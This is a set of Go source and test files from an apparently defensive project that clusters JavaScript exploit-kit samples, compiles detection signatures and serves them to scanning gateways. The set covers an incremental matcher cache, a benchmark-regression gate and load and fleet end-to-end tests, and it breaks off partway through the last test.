func (c *Compiler) ResetKnown() {
	c.corpus = pipeline.NewCorpus(c.cfg.Winnow, defaultMaxPerFamily)
}

// KnownFamilies lists the seeded family labels.
func (c *Compiler) KnownFamilies() []string { return c.corpus.Families() }

// Cluster is one cluster of structurally similar samples.
type Cluster struct {
	// SampleIDs are the IDs of the samples in the cluster.
	SampleIDs []string
	// Family is the kit label, or "" if the cluster is benign.
	Family string
	// Overlap is the winnow overlap behind the label.
	Overlap float64
	// Unpacked is the decoded payload of the cluster prototype.
	Unpacked string
	// SignatureIndex points into Result.Signatures (-1 if none).
	SignatureIndex int
}

// Signature is a compiled structural signature.
type Signature struct {
	inner siggen.Signature
}

// Family returns the kit the signature detects.
func (s Signature) Family() string { return s.inner.Family }

// Regex renders the signature in the AV-deployable dialect of Figure 10
// (named groups and back-references included).
func (s Signature) Regex() string { return s.inner.Regex() }

// TokenLength is the signature length in tokens.
func (s Signature) TokenLength() int { return s.inner.TokenLength() }

// Length is the signature length in characters of the rendered regex (the
// quantity plotted in Figure 12).
func (s Signature) Length() int { return s.inner.Length() }

// MarshalJSON serializes the signature in its structural form, so stored
// signature databases survive round trips (the regex rendering alone would
// lose the back-reference semantics for Go consumers).
func (s Signature) MarshalJSON() ([]byte, error) { return json.Marshal(s.inner) }

// UnmarshalJSON restores a serialized signature; validity is checked when
// it is compiled into a Matcher.
func (s *Signature) UnmarshalJSON(data []byte) error { return json.Unmarshal(data, &s.inner) }

// Result is the output of Process.
type Result struct {
	// Clusters are all clusters found, benign ones included.
	Clusters []Cluster
	// Signatures are the compiled signatures for malicious clusters.
	Signatures []Signature
	// Stats carries per-stage processing statistics.
	Stats Stats
}

// Stats summarizes one Process run.
type Stats struct {
	Samples           int
	UniqueSequences   int
	Partitions        int
	Clusters          int
	MaliciousClusters int
	// LabelSweeps counts per-family corpus sweeps during cluster labeling.
	// With a warm cache only families whose corpus slice changed since the
	// last run are re-swept (an AddKnown to one family costs one sweep per
	// re-labeled payload, not a full corpus pass); the count is
	// observational and never affects labels.
	LabelSweeps int
	// CacheHits / CacheMisses are this run's content-cache lookups. Zero
	// misses means the run added nothing to the cache — publishers use
	// that to skip redundant cache snapshots.
	CacheHits   int64
	CacheMisses int64
	// WireBytes / EdgeWireBytes are this run's shard-fleet traffic
	// (request+response bodies) — total and the edge-sweep share. Both are
	// zero for in-process clustering. On a fleet with resident sets, a
	// warm day's EdgeWireBytes shows the digest-first wire working: edge
	// jobs ship 20-byte keys instead of sequences already on the worker.
	WireBytes     int64
	EdgeWireBytes int64
}

// Process clusters, labels, and signs one batch of samples.
func (c *Compiler) Process(samples []Sample) (*Result, error) {
	inputs := make([]pipeline.Input, len(samples))
	for i, s := range samples {
		inputs[i] = pipeline.Input{ID: s.ID, Content: s.Content}
	}
	pres, err := pipeline.Process(inputs, c.corpus, c.cfg)
	if err != nil {
		if errors.Is(err, pipeline.ErrNoInputs) {
			return nil, fmt.Errorf("kizzle: %w", err)
		}
		return nil, fmt.Errorf("kizzle: process: %w", err)
	}

	out := &Result{
		Stats: Stats{
			Samples:           pres.Stats.Samples,
			UniqueSequences:   pres.Stats.UniqueSequences,
			Partitions:        pres.Stats.Partitions,
			Clusters:          pres.Stats.Clusters,
			MaliciousClusters: pres.Stats.Malicious,
			LabelSweeps:       pres.Stats.LabelSweeps,
			CacheHits:         pres.Stats.CacheHits,
			CacheMisses:       pres.Stats.CacheMisses,
			WireBytes:         pres.Stats.WireBytes,
			EdgeWireBytes:     pres.Stats.EdgeWireBytes,
		},
	}
	out.Signatures = make([]Signature, len(pres.Signatures))
	for i, sig := range pres.Signatures {
		out.Signatures[i] = Signature{inner: sig}
	}
	out.Clusters = make([]Cluster, len(pres.Clusters))
	for i, cl := range pres.Clusters {
		ids := make([]string, len(cl.Samples))
		for j, si := range cl.Samples {
			ids[j] = samples[si].ID
		}
		out.Clusters[i] = Cluster{
			SampleIDs:      ids,
			Family:         cl.Label,
			Overlap:        cl.Overlap,
			Unpacked:       cl.Unpacked,
			SignatureIndex: cl.SignatureIndex,
		}
	}
	return out, nil
}

// Match is one signature hit.
type Match struct {
	// Family is the detected kit.
	Family string
	// TokenOffset is the match position in the token stream.
	TokenOffset int
}

// Matcher is a deployed signature set — the consumer side of the AV
// distribution channel. Signatures compiled from different ingest
// profiles (resolved from each family's workload namespace, e.g.
// "webkit/strato_v2" → the webkit profile) coexist in one Matcher: a
// scanned document is lexed once per present profile and each profile's
// signatures match over their own token stream, so one gateway fleet
// serves JS exploit-kit and web phishing-kit corpora side by side.
type Matcher struct {
	// scanners holds one sigmatch scanner per ingest profile present in
	// the signature set, in first-seen family order (a js-only set has
	// exactly one entry and behaves bit-identically to the pre-profile
	// matcher).
	scanners []profileScanner
}

// profileScanner pairs one ingest profile's lexer with the scanner over
// that profile's signatures.
type profileScanner struct {
	profile ingest.Profile
	scanner *sigmatch.Scanner
}

// scannerFor returns the scanner for the given profile, appending a new
// empty one on first use.
func (m *Matcher) scannerFor(p ingest.Profile) *sigmatch.Scanner {
	for i := range m.scanners {
		if m.scanners[i].profile.ID() == p.ID() {
			return m.scanners[i].scanner
		}
	}
	s, _ := sigmatch.NewScanner(nil)
	m.scanners = append(m.scanners, profileScanner{profile: p, scanner: s})
	return s
}

// NewMatcher compiles signatures for scanning. Each signature's ingest
// profile is resolved from its family's workload namespace; matches for
// multi-profile sets are grouped by profile in first-seen family order.
func NewMatcher(sigs []Signature) (*Matcher, error) {
	grouped := make(map[string][]siggen.Signature)
	var order []string
	for _, s := range sigs {
		id := ingest.ProfileOf(s.inner.Family).ID()
		if _, seen := grouped[id]; !seen {
			order = append(order, id)
		}
		grouped[id] = append(grouped[id], s.inner)
	}
	m := &Matcher{}
	for _, id := range order {
		p, _ := ingest.Lookup(id)
		scanner, err := sigmatch.NewScanner(grouped[id])
		if err != nil {
			return nil, fmt.Errorf("kizzle: compile signatures: %w", err)
		}
		m.scanners = append(m.scanners, profileScanner{profile: p, scanner: scanner})
	}
	return m, nil
}

// Add deploys one more signature.
func (m *Matcher) Add(sig Signature) error {
	if err := m.scannerFor(ingest.ProfileOf(sig.inner.Family)).Add(sig.inner); err != nil {
		return fmt.Errorf("kizzle: add signature: %w", err)
	}
	return nil
}

// Len reports the number of deployed signatures.
func (m *Matcher) Len() int {
	n := 0
	for i := range m.scanners {
		n += m.scanners[i].scanner.Len()
	}
	return n
}

// appendMatches converts one scanner's hits onto out.
func appendMatches(out []Match, hits []sigmatch.Match) []Match {
	for _, h := range hits {
		out = append(out, Match{Family: h.Family, TokenOffset: h.TokenOffset})
	}
	return out
}

// ScanBytes scans a document held in a byte slice in place, without
// copying it into a string — the zero-copy core of the serving hot path,
// where the caller owns a pooled body buffer. The document is lexed once
// per deployed ingest profile and every profile's signatures run over
// their own token stream. The matcher retains no part of doc (matches
// carry only signature-owned family strings and integer offsets), so the
// buffer may be reused the moment the call returns. Results are
// identical to Scan(string(doc)).
func (m *Matcher) ScanBytes(doc []byte) []Match {
	out := make([]Match, 0)
	view := zerocopy.String(doc)
	for i := range m.scanners {
		ps := &m.scanners[i]
		out = appendMatches(out, ps.scanner.ScanTokens(ps.profile.LexDocument(view)))
	}
	return out
}

// Scan returns all signature matches in a document. It is a thin
// compatibility wrapper over ScanBytes: the string is viewed as bytes
// without copying and scanned through the byte path.
func (m *Matcher) Scan(doc string) []Match {
	return m.ScanBytes(zerocopy.Bytes(doc))
}

// DetectsBytes reports whether any signature matches the document,
// scanning the byte slice in place.
func (m *Matcher) DetectsBytes(doc []byte) bool {
	view := zerocopy.String(doc)
	for i := range m.scanners {
		ps := &m.scanners[i]
		if ps.scanner.DetectsTokens(ps.profile.LexDocument(view)) {
			return true
		}
	}
	return false
}

// Detects reports whether any signature matches the document — the
// string compatibility wrapper over DetectsBytes.
func (m *Matcher) Detects(doc string) bool {
	return m.DetectsBytes(zerocopy.Bytes(doc))
}

// ScanAllBytes scans a batch of byte-slice documents concurrently
// (tokenization included) without copying them, aligned with the input —
// the batched zero-copy core that bulk deployment channels (CDN
// admission queues, scan APIs) dispatch through. Buffer-reuse rules are
// those of ScanBytes.
func (m *Matcher) ScanAllBytes(docs [][]byte) [][]Match {
	// The single-profile common case keeps sigmatch's pooled batch path;
	// multi-profile sets scan per profile and merge in profile order so
	// per-document results match ScanBytes exactly.
	if len(m.scanners) == 1 {
		ps := &m.scanners[0]
		if ps.profile.ID() == ingest.Default().ID() {
			return convertBatch(ps.scanner.ScanDocumentsBytes(docs))
		}
	}
	out := make([][]Match, len(docs))
	for i := range m.scanners {
		ps := &m.scanners[i]
		streams := make([][]jstoken.Token, len(docs))
		for j, doc := range docs {
			streams[j] = ps.profile.LexDocument(zerocopy.String(doc))
		}
		for j, hits := range ps.scanner.ScanAll(streams) {
			if len(hits) > 0 {
				out[j] = appendMatches(out[j], hits)
			}
		}
	}
	return out
}

// ScanAll scans a batch of documents concurrently and returns
// per-document matches aligned with the input — the string compatibility
// wrapper over ScanAllBytes (documents are viewed as bytes without
// copying).
func (m *Matcher) ScanAll(docs []string) [][]Match {
	views := make([][]byte, len(docs))
	for i, doc := range docs {
		views[i] = zerocopy.Bytes(doc)
	}
	return m.ScanAllBytes(views)
}

// convertBatch converts sigmatch batch output, leaving no-hit documents
// nil.
func convertBatch(raw [][]sigmatch.Match) [][]Match {
	out := make([][]Match, len(raw))
	for i, hits := range raw {
		if len(hits) == 0 {
			continue
		}
		out[i] = appendMatches(make([]Match, 0, len(hits)), hits)
	}
	return out
}

// MatcherCache builds Matchers incrementally: compiled signatures are kept
// per family and reused across builds, so republishing a signature set
// where only one family changed recompiles only that family. Signature
// publishers recompile on every update (sigserve's /signatures POST and
// its periodic recompilation loop); with dozens of tracked families the
// full rebuild is almost entirely redundant work. The zero value is ready
// to use. A MatcherCache is not safe for concurrent use; callers serialize
// Build (sigserve holds its handler mutex).
type MatcherCache struct {
	families map[string]*familyCompiled
}

type familyCompiled struct {
	// sigs is the family's ordered signature list; reuse requires exact
	// structural equality, so a cache hit can never hand back the wrong
	// compilation.
	sigs     []siggen.Signature
	compiled []*sigmatch.Compiled
}

// sameSignatures reports structural equality of an ordered signature list
// against the family's cached one.
func (fc *familyCompiled) sameSignatures(sigs []Signature, idxs []int) bool {
	if len(fc.sigs) != len(idxs) {
		return false
	}
	for k, i := range idxs {
		a, b := fc.sigs[k], sigs[i].inner
		if a.Family != b.Family || a.Samples != b.Samples || len(a.Elements) != len(b.Elements) {
			return false
		}
		for e := range a.Elements {
			if a.Elements[e] != b.Elements[e] {
				return false
			}
		}
	}
	return true
}

// BuildStats reports what a MatcherCache.Build reused versus recompiled.
type BuildStats struct {
	FamiliesReused     int
	FamiliesRecompiled int
	SignaturesReused   int
	SignaturesCompiled int
}

// Build compiles sigs into a Matcher, reusing the compiled form of every
// family whose (ordered) signature list is unchanged since the previous
// Build. The resulting Matcher is identical to NewMatcher(sigs): scan
// results, signature indices, and anchor selection do not depend on what
// was cached.
func (mc *MatcherCache) Build(sigs []Signature) (*Matcher, BuildStats, error) {
	var stats BuildStats
	if mc.families == nil {
		mc.families = make(map[string]*familyCompiled)
	}

	// Group signature indices by family, preserving order.
	byFamily := make(map[string][]int)
	var order []string
	for i, s := range sigs {
		fam := s.inner.Family
		if _, seen := byFamily[fam]; !seen {
			order = append(order, fam)
		}
		byFamily[fam] = append(byFamily[fam], i)
	}

	compiled := make([]*sigmatch.Compiled, len(sigs))
	next := make(map[string]*familyCompiled, len(byFamily))
	for _, fam := range order {
		idxs := byFamily[fam]
		if prev, ok := mc.families[fam]; ok && prev.sameSignatures(sigs, idxs) {
			for k, i := range idxs {
				compiled[i] = prev.compiled[k]
			}
			next[fam] = prev
			stats.FamiliesReused++
			stats.SignaturesReused += len(idxs)
			continue
		}
		fc := &familyCompiled{
			sigs:     make([]siggen.Signature, len(idxs)),
			compiled: make([]*sigmatch.Compiled, len(idxs)),
		}
		for k, i := range idxs {
			c, err := sigmatch.Compile(sigs[i].inner)
			if err != nil {
				return nil, stats, fmt.Errorf("kizzle: compile signature %d: %w", i, err)
			}
			fc.sigs[k] = sigs[i].inner
			fc.compiled[k] = c
			compiled[i] = c
		}
		next[fam] = fc
		stats.FamiliesRecompiled++
		stats.SignaturesCompiled += len(idxs)
	}
	// Families absent from this build are dropped from the cache.
	mc.families = next

	// Assemble per-profile scanners from the compiled forms, grouped in
	// first-seen family order — the same shape NewMatcher(sigs) builds.
	m := &Matcher{}
	grouped := make(map[string][]*sigmatch.Compiled)
	var profOrder []string
	for i, s := range sigs {
		id := ingest.ProfileOf(s.inner.Family).ID()
		if _, seen := grouped[id]; !seen {
			profOrder = append(profOrder, id)
		}
		grouped[id] = append(grouped[id], compiled[i])
	}
	for _, id := range profOrder {
		p, _ := ingest.Lookup(id)
		m.scanners = append(m.scanners, profileScanner{
			profile: p,
			scanner: sigmatch.NewScannerFromCompiled(grouped[id]),
		})
	}
	return m, stats, nil
}
