package kizzle_test

import (
	"reflect"
	"testing"

	"kizzle"
	"kizzle/synth"
)

// buildSignatureSet compiles one day of synthetic traffic into signatures
// spanning several families.
func buildSignatureSet(t testing.TB, day int) []kizzle.Signature {
	t.Helper()
	c := kizzle.New()
	for _, fam := range synth.Kits() {
		c.AddKnown(fam.String(), synth.Payload(fam, day-1))
	}
	scfg := synth.DefaultConfig()
	scfg.BenignPerDay = 40
	stream, err := synth.NewStream(scfg)
	if err != nil {
		t.Fatal(err)
	}
	var batch []kizzle.Sample
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
	}
	res, err := c.Process(batch)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Signatures) < 2 {
		t.Fatalf("need >= 2 signatures for the incremental test, got %d", len(res.Signatures))
	}
	return res.Signatures
}

// scanResults collects per-document matches over a probe set.
func scanResults(m *kizzle.Matcher, docs []string) [][]kizzle.Match {
	out := make([][]kizzle.Match, len(docs))
	for i, d := range docs {
		out[i] = m.Scan(d)
	}
	return out
}

// TestMatcherCacheIncremental pins the satellite requirement: rebuilding
// with one family changed recompiles only that family, and the assembled
// matcher is indistinguishable from a full NewMatcher build.
func TestMatcherCacheIncremental(t *testing.T) {
	day := synth.Date(8, 6)
	sigs := buildSignatureSet(t, day)

	var probes []string
	scfg := synth.DefaultConfig()
	scfg.BenignPerDay = 10
	stream, err := synth.NewStream(scfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range stream.Day(day + 1) {
		probes = append(probes, s.Content)
	}

	var mc kizzle.MatcherCache
	m1, stats1, err := mc.Build(sigs)
	if err != nil {
		t.Fatal(err)
	}
	if stats1.FamiliesReused != 0 || stats1.SignaturesCompiled != len(sigs) {
		t.Fatalf("cold build stats = %+v, want all %d compiled", stats1, len(sigs))
	}
	full, err := kizzle.NewMatcher(sigs)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(scanResults(full, probes), scanResults(m1, probes)) {
		t.Fatal("cached build scans differently from NewMatcher")
	}

	// Identical republish: nothing recompiles.
	m2, stats2, err := mc.Build(sigs)
	if err != nil {
		t.Fatal(err)
	}
	if stats2.SignaturesCompiled != 0 || stats2.SignaturesReused != len(sigs) {
		t.Fatalf("identical republish stats = %+v, want all reused", stats2)
	}
	if !reflect.DeepEqual(scanResults(m1, probes), scanResults(m2, probes)) {
		t.Fatal("republish changed scan results")
	}

	// Drop one family's signatures: only that family's absence changes the
	// set, every other family must be reused.
	dropped := sigs[0].Family()
	var rest []kizzle.Signature
	families := make(map[string]bool)
	for _, s := range sigs {
		if s.Family() != dropped {
			rest = append(rest, s)
			families[s.Family()] = true
		}
	}
	m3, stats3, err := mc.Build(rest)
	if err != nil {
		t.Fatal(err)
	}
	if stats3.SignaturesCompiled != 0 {
		t.Fatalf("dropping a family recompiled %d signatures", stats3.SignaturesCompiled)
	}
	if stats3.FamiliesReused != len(families) {
		t.Fatalf("reused %d families, want %d", stats3.FamiliesReused, len(families))
	}
	fullRest, err := kizzle.NewMatcher(rest)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(scanResults(fullRest, probes), scanResults(m3, probes)) {
		t.Fatal("incremental build after family drop scans differently")
	}

	// Re-adding the dropped family recompiles exactly it (the cache
	// evicted it on the previous build).
	_, stats4, err := mc.Build(sigs)
	if err != nil {
		t.Fatal(err)
	}
	if stats4.FamiliesRecompiled != 1 {
		t.Fatalf("re-adding one family recompiled %d families", stats4.FamiliesRecompiled)
	}
}

// BenchmarkMatcherRebuild compares a full recompilation against the
// incremental rebuild when no family changed — sigserve's steady state.
func BenchmarkMatcherRebuild(b *testing.B) {
	sigs := buildSignatureSet(b, synth.Date(8, 6))
	b.Run("full", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := kizzle.NewMatcher(sigs); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("incremental", func(b *testing.B) {
		var mc kizzle.MatcherCache
		if _, _, err := mc.Build(sigs); err != nil {
			b.Fatal(err)
		}
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, _, err := mc.Build(sigs); err != nil {
				b.Fatal(err)
			}
		}
	})
}
