// Command benchgate turns `go test -bench` output into committed JSON
// snapshots and gates pull requests on them: medians of the current run
// are compared against BENCH_BASELINE.json and the process exits nonzero
// when any benchmark's median exceeds the baseline by more than the
// tolerance (default 25%, sized to absorb CI-runner noise).
//
// Usage:
//
//	go test -bench=... -count=5 | benchgate [-baseline BENCH_BASELINE.json]
//	          [-tolerance 0.25] [-write BENCH_CURRENT.json] [-note text]
//
// With only -write it records a snapshot (how `make bench-baseline`
// refreshes the baseline); with -baseline it additionally gates. See
// scripts/benchgate.sh for the bench set the CI gate runs.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"runtime"
	"strings"

	"kizzle/internal/benchgate"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "benchgate:", err)
		os.Exit(1)
	}
}

var errRegressed = fmt.Errorf("bench regression against baseline")

func run(args []string) error {
	fs := flag.NewFlagSet("benchgate", flag.ContinueOnError)
	baselinePath := fs.String("baseline", "", "baseline snapshot to gate against (empty: no gating)")
	tolerance := fs.Float64("tolerance", 0.25, "allowed median slowdown before failing (0.25 = +25%)")
	write := fs.String("write", "", "write this run's snapshot to the given file")
	note := fs.String("note", "", "note recorded in the written snapshot")
	if err := fs.Parse(args); err != nil {
		return err
	}

	ms, err := benchgate.Parse(os.Stdin)
	if err != nil {
		return err
	}
	if len(ms) == 0 {
		return fmt.Errorf("no benchmark results on stdin")
	}
	current := benchgate.Aggregate(ms)

	if *write != "" {
		snap := benchgate.Snapshot{
			Note:       *note,
			Go:         runtime.Version(),
			CPU:        cpuModel(),
			Benchmarks: current,
		}
		data, err := json.MarshalIndent(snap, "", "  ")
		if err != nil {
			return err
		}
		if err := os.WriteFile(*write, append(data, '\n'), 0o644); err != nil {
			return err
		}
		fmt.Fprintf(os.Stderr, "benchgate: wrote %d benchmarks to %s\n", len(current), *write)
	}

	if *baselinePath == "" {
		return nil
	}
	raw, err := os.ReadFile(*baselinePath)
	if err != nil {
		return fmt.Errorf("read baseline: %w", err)
	}
	var baseline benchgate.Snapshot
	if err := json.Unmarshal(raw, &baseline); err != nil {
		return fmt.Errorf("parse baseline: %w", err)
	}
	verdicts, regressed := benchgate.Compare(current, baseline.Benchmarks, *tolerance)
	fmt.Print(benchgate.Format(verdicts, *tolerance))
	if baseline.CPU != "" && baseline.CPU != cpuModel() {
		fmt.Fprintf(os.Stderr, "benchgate: note: baseline CPU %q != this host %q — absolute medians may not be comparable\n",
			baseline.CPU, cpuModel())
	}
	if regressed {
		return errRegressed
	}
	fmt.Println("benchgate: PASS")
	return nil
}

// cpuModel best-effort identifies the benchmarking host's CPU (the
// comparability key recorded in snapshots): the first "model name" line
// of /proc/cpuinfo on Linux, else GOOS/GOARCH.
func cpuModel() string {
	if raw, err := os.ReadFile("/proc/cpuinfo"); err == nil {
		for _, line := range strings.Split(string(raw), "\n") {
			if name, ok := strings.CutPrefix(line, "model name"); ok {
				if _, v, ok := strings.Cut(name, ":"); ok {
					return strings.TrimSpace(v)
				}
			}
		}
	}
	return runtime.GOOS + "/" + runtime.GOARCH
}
