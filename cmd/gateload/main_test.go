package main

import (
	"bytes"
	"encoding/json"
	"testing"
)

// TestGateloadInProcess runs a short closed-loop burst through the
// self-hosted stack and checks the report's invariants: traffic flowed,
// kit landings were blocked, percentiles are ordered, and the admission
// counters surfaced.
func TestGateloadInProcess(t *testing.T) {
	var buf bytes.Buffer
	if err := run([]string{"-duration", "300ms", "-clients", "8"}, &buf); err != nil {
		t.Fatal(err)
	}
	var rep report
	if err := json.Unmarshal(buf.Bytes(), &rep); err != nil {
		t.Fatalf("report not JSON: %v\n%s", err, buf.String())
	}
	if rep.Mode != "in-process" {
		t.Errorf("mode = %q", rep.Mode)
	}
	if rep.Requests == 0 {
		t.Fatal("no requests completed")
	}
	if rep.Errors != 0 {
		t.Errorf("%d errors", rep.Errors)
	}
	if rep.Blocked == 0 {
		t.Error("zipf over a kit-bearing corpus must hit blocked landings")
	}
	if rep.P50US <= 0 || rep.P99US < rep.P50US || rep.MaxUS < rep.P99US {
		t.Errorf("percentiles out of order: p50=%v p99=%v max=%v", rep.P50US, rep.P99US, rep.MaxUS)
	}
	if rep.Admitter == nil || rep.Vetter == nil {
		t.Error("in-process report must carry admitter and vetter metrics")
	}
	if reqs, ok := rep.Admitter["requests"].(float64); !ok || reqs <= 0 {
		t.Errorf("admitter requests = %v", rep.Admitter["requests"])
	}
}

// TestGateloadPaced exercises the open-loop diurnal pacing path.
func TestGateloadPaced(t *testing.T) {
	var buf bytes.Buffer
	if err := run([]string{"-duration", "300ms", "-clients", "4", "-rps", "500"}, &buf); err != nil {
		t.Fatal(err)
	}
	var rep report
	if err := json.Unmarshal(buf.Bytes(), &rep); err != nil {
		t.Fatal(err)
	}
	if rep.Requests == 0 {
		t.Fatal("paced run completed no requests")
	}
}

func TestGateloadValidation(t *testing.T) {
	if err := run([]string{"-target", "://bad"}, &bytes.Buffer{}); err == nil {
		t.Error("bad -target must fail")
	}
	if err := run([]string{"-clients", "0"}, &bytes.Buffer{}); err == nil {
		t.Error("zero clients must fail")
	}
}
