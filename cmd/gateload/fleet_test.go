package main

import (
	"context"
	"io"
	"math/rand"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"sync/atomic"
	"testing"
	"time"

	"kizzle"
	"kizzle/gateway"
	"kizzle/internal/verdictcache"
	"kizzle/sigdb"
	"kizzle/synth"
)

// fleetReplica is one member of the e2e fleet: a strict sigdb client
// feeding a vetter, an admitter plugged into the shared verdict cache,
// and a loopback front.
type fleetReplica struct {
	vetter *gateway.Vetter
	admit  *gateway.Admitter
	client *sigdb.Client
	front  *server
}

// TestFleetE2E is the PR's acceptance run, end to end: three gateway
// replicas behind a round-robin front, armed by a certified publish,
// sharing one verdict cache. It pins four properties:
//
//  1. a certified publish (PublishAttested under a cert key) reaches
//     every replica through the watch stream in seconds while the poll
//     interval is an hour — push, not poll-luck;
//  2. the shared verdict cache produces cross-replica hits: a document
//     scanned on replica 0 is admitted on replicas 1 and 2 with zero
//     additional scans;
//  3. under zipf load the cache keeps absorbing repeat scans fleet-wide;
//  4. every document's verdict through the fleet is byte-identical to
//     the single-replica path.
func TestFleetE2E(t *testing.T) {
	if testing.Short() {
		t.Skip("fleet e2e needs real training runs")
	}
	day := synth.Date(time.August, 5)
	docs, sigs, err := train(day)
	if err != nil {
		t.Fatal(err)
	}

	// Certified publisher: attested sets under a shared HMAC key, served
	// the way sigserve mounts them (poll + watch + attest).
	key := []byte("fleet-e2e-key")
	store := sigdb.New()
	store.SetCertKey(key)
	primary := sigdb.PathDescriptor{Mode: "fleet", Shards: 3, Dispatch: "stream", Affinity: true}
	verify := sigdb.PathDescriptor{Mode: "in-process", Dispatch: "batch", Seed: 7}
	if _, _, _, err := store.PublishAttested(sigs, nil, "corpus-day1", primary, verify); err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	mux.Handle("/signatures", store.Handler())
	mux.Handle("/signatures/watch", store.WatchHandler())
	mux.Handle("/attest", store.AttestHandler())
	sigSrv := httptest.NewServer(mux)
	defer sigSrv.Close()

	origin := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		i, err := strconv.Atoi(r.URL.Path[1:])
		if err != nil || i < 0 || i >= len(docs) {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, docs[i])
	}))
	defer origin.Close()
	originURL := mustParse(t, origin.URL)

	// Single-replica reference: same signatures, no shared cache. Every
	// fleet verdict must match this path byte for byte.
	refMatcher, err := kizzle.NewMatcher(sigs)
	if err != nil {
		t.Fatal(err)
	}
	refVetter := gateway.NewVetter(refMatcher)
	refVetter.SetVersion(1)
	refProxy := gateway.NewProxy(originURL, refVetter)
	ref := httptest.NewServer(refProxy)
	defer ref.Close()

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	cache := verdictcache.New(0)
	const replicas = 3
	fleet := make([]*fleetReplica, replicas)
	for i := range fleet {
		r := &fleetReplica{vetter: gateway.NewVetter(nil)}
		r.client = &sigdb.Client{
			URL:        sigSrv.URL + "/signatures",
			Strict:     true,
			CertKey:    key,
			AttestURL:  sigSrv.URL + "/attest",
			JitterSeed: int64(i) + 1,
		}
		deploy := func(snap sigdb.Snapshot) {
			m, _ := r.client.Matcher()
			if m == nil {
				if m, _, err = snap.Matcher(); err != nil {
					t.Errorf("replica deploy v%d: %v", snap.Version, err)
					return
				}
			}
			r.vetter.Update(m)
			r.vetter.SetVersion(snap.Version)
		}
		// Arm synchronously (the kizzlegate startup sequence), then park
		// on the watch stream with a poll interval so long that any later
		// update can only arrive by push.
		snap, ok, err := r.client.Fetch(ctx)
		if err != nil || !ok {
			t.Fatalf("replica %d initial fetch: ok=%v err=%v", i, ok, err)
		}
		deploy(snap)
		go r.client.Run(ctx, time.Hour, deploy, nil)

		r.admit = gateway.NewAdmitter(r.vetter, 32, 200*time.Microsecond)
		defer r.admit.Close()
		r.admit.UseSharedStore(cache)
		proxy := gateway.NewProxy(originURL, r.vetter)
		proxy.UseAdmitter(r.admit)
		r.front, err = serve(proxy)
		if err != nil {
			t.Fatal(err)
		}
		defer r.front.close()
		fleet[i] = r
	}
	for i, r := range fleet {
		if v := r.vetter.Version(); v != 1 {
			t.Fatalf("replica %d armed at version %d, want 1", i, v)
		}
	}

	hc := &http.Client{Timeout: 10 * time.Second}
	get := func(base string, doc int) (int, string) {
		t.Helper()
		resp, err := hc.Get(base + "/" + strconv.Itoa(doc))
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		return resp.StatusCode, string(body)
	}

	// A kit landing the reference blocks — the document whose verdict the
	// cache will carry across replicas.
	kitDoc := -1
	for i, d := range docs {
		if refVetter.Vet(d).Blocked {
			kitDoc = i
			break
		}
	}
	if kitDoc < 0 {
		t.Fatal("corpus has no blocked landing")
	}

	// Cross-replica sharing, deterministically: replica 0 scans the kit
	// doc and publishes its verdict; replicas 1 and 2 must block it from
	// the shared cache without scanning at all.
	if code, _ := get(fleet[0].front.url.String(), kitDoc); code != http.StatusForbidden {
		t.Fatalf("replica 0 served the kit landing: %d", code)
	}
	for i := 1; i < replicas; i++ {
		before, _ := fleet[i].vetter.Stats()
		if code, _ := get(fleet[i].front.url.String(), kitDoc); code != http.StatusForbidden {
			t.Fatalf("replica %d served the kit landing: %d", i, code)
		}
		after, _ := fleet[i].vetter.Stats()
		if after != before {
			t.Errorf("replica %d scanned the kit doc itself (%d scans) instead of hitting the shared cache", i, after-before)
		}
		if hits, _ := fleet[i].admit.Metrics()["shared_hits"].(int64); hits < 1 {
			t.Errorf("replica %d shared_hits = %d, want >= 1", i, hits)
		}
	}

	// Zipf load through the round-robin front: hot documents repeat, so
	// the fleet cache must keep absorbing scans.
	rng := rand.New(rand.NewSource(1))
	zipf := rand.NewZipf(rng, 1.5, 1, uint64(len(docs)-1))
	var rr atomic.Int64
	for n := 0; n < 300; n++ {
		r := fleet[int(rr.Add(1))%replicas]
		get(r.front.url.String(), int(zipf.Uint64()))
	}
	m := cache.Metrics()
	if hits, _ := m["hits"].(int64); hits < 1 {
		t.Errorf("shared cache hits = %d under zipf load, want > 0", hits)
	}

	// Byte-identical verdicts: every document through the fleet matches
	// the single-replica path exactly — status and body.
	for i := range docs {
		wantCode, wantBody := get(ref.URL, i)
		gotCode, gotBody := get(fleet[i%replicas].front.url.String(), i)
		if gotCode != wantCode || gotBody != wantBody {
			t.Fatalf("doc %d: fleet verdict (%d, %d bytes) != single-replica (%d, %d bytes)",
				i, gotCode, len(gotBody), wantCode, len(wantBody))
		}
	}

	// Certified publish, pushed: train a second day's set, publish it
	// attested, and require every replica to deploy it within seconds —
	// the poll interval is an hour, so only the watch stream can deliver.
	_, sigs2, err := train(synth.Date(time.August, 6))
	if err != nil {
		t.Fatal(err)
	}
	v2, changed, _, err := store.PublishAttested(sigs2, nil, "corpus-day2", primary, verify)
	if err != nil {
		t.Fatal(err)
	}
	if !changed {
		t.Fatal("day-2 set did not change the store")
	}
	deadline := time.Now().Add(10 * time.Second)
	for i, r := range fleet {
		for r.vetter.Version() != v2 {
			if time.Now().After(deadline) {
				t.Fatalf("replica %d still at v%d after %s: publish never arrived by push",
					i, r.vetter.Version(), 10*time.Second)
			}
			time.Sleep(5 * time.Millisecond)
		}
	}
	for i, r := range fleet {
		cm := r.client.Metrics()
		if upd, _ := cm["watch_updates"].(int64); upd < 1 {
